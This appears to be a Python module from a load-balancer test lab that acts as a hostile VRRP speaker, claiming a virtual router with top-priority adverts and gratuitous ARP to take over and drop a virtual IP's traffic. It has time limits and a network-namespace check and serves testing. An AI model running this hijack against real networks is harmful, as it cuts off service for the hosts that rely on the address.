"""A hostile VRRP speaker for the ``hijack`` scenario: ``python -m lablb.lab.attacker``
in a lab host on the server LAN. Edge: raw sockets, bounded in time.

It claims a virtual router the way a compromised or misconfigured host would: VRRP
adverts at ``--priority`` (255 by default, the address owner's) every ``--interval``
for ``--vrid`` and the given ``--vip`` addresses, with the authentication it was told
(``none``, ``pass:PASSWORD`` or ``ah:KEY``; it can only know a key it was given), and a
gratuitous ARP for each address at the start, so that neighbours send the VIP's traffic
to it. It answers nothing: whatever it steals, it drops.

It runs for ``--for`` seconds at most (``MAX_SECONDS`` whatever it is told), stops on
SIGTERM/SIGINT, and refuses to run in the machine's own network namespace: attacks are
for lab hosts. It prints ``sending`` when its first advert is out and, at the end, how
many it sent.
"""

from __future__ import annotations

import argparse
import signal
import sys
import time
from ipaddress import IPv4Address

from lablb.mail import in_own_netns
from lablb.vrrp import ah, io
from lablb.vrrp.packet import VRRP_GROUP, Advert, AuthType, Checksum

MAX_SECONDS = 600.0


def advert(vrid: int, priority: int, vips: list[IPv4Address], interval: float, version: int,
           auth: str) -> Advert:  # fmt: skip
    """The advert the attacker sends (AH's header is added when it is sent)."""
    kind, _, secret = auth.partition(":")
    auth_type = {"none": AuthType.NONE, "pass": AuthType.PASS, "ah": AuthType.AH}[kind]
    data = secret.encode()[:8] if auth_type is AuthType.PASS else b""
    return Advert(version, vrid, priority, tuple(vips), round(interval * 100), auth_type, data)


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="lablb-attacker", description=__doc__.split("\n")[0])
    p.add_argument("--interface", default="eth0")
    p.add_argument("--vrid", type=int, required=True)
    p.add_argument("--priority", type=int, default=255)
    p.add_argument("--vip", type=IPv4Address, action="append", required=True)
    p.add_argument("--interval", type=float, default=1.0, help="seconds between adverts")
    p.add_argument("--version", type=int, choices=(2, 3), default=2)
    p.add_argument("--auth", default="none", help="none | pass:PASSWORD | ah:KEY")
    p.add_argument("--no-garp", action="store_true", help="send no gratuitous ARP")
    p.add_argument("--for", dest="seconds", type=float, default=10.0)
    args = p.parse_args(argv)
    if not in_own_netns():
        print("lablb-attacker: refusing to run in the machine's own namespace", file=sys.stderr)
        return 2
    if args.auth.partition(":")[0] not in ("none", "pass", "ah"):
        p.error("--auth: none, pass:PASSWORD or ah:KEY")
    try:
        msg = advert(args.vrid, args.priority, args.vip, args.interval, args.version, args.auth)
    except ValueError as exc:
        p.error(str(exc))
    source = io.primary_ipv4(args.interface)
    if source is None:
        print(f"lablb-attacker: {args.interface} has no IPv4 address", file=sys.stderr)
        return 2
    stop = {"now": False}
    for sig in (signal.SIGINT, signal.SIGTERM):
        signal.signal(sig, lambda *_: stop.update(now=True))
    is_ah = msg.auth_type is AuthType.AH
    sock = io.VrrpSocket(args.interface, source, VRRP_GROUP, ah=is_ah)
    garp = io.GarpSender(args.interface)
    key = args.auth.partition(":")[2].encode()[:8]
    end = time.monotonic() + min(args.seconds, MAX_SECONDS)
    sent, seq = 0, 1
    try:
        while not stop["now"] and time.monotonic() < end:
            if is_ah:
                wire = ah.encode(msg, source, VRRP_GROUP, key, seq, sock.next_ident())
                sock.send_ah(wire, VRRP_GROUP)
                seq += 1
            else:
                sock.send(msg.encode(source, VRRP_GROUP, Checksum.PSEUDO_HEADER), VRRP_GROUP)
            sent += 1
            if sent == 1:
                if not args.no_garp:
                    for vip in args.vip:
                        garp.send(vip, 1)
                print("sending", flush=True)
            time.sleep(max(0.0, min(args.interval, end - time.monotonic())))
    finally:
        sock.close()
        garp.close()
    print(f"sent {sent}", flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
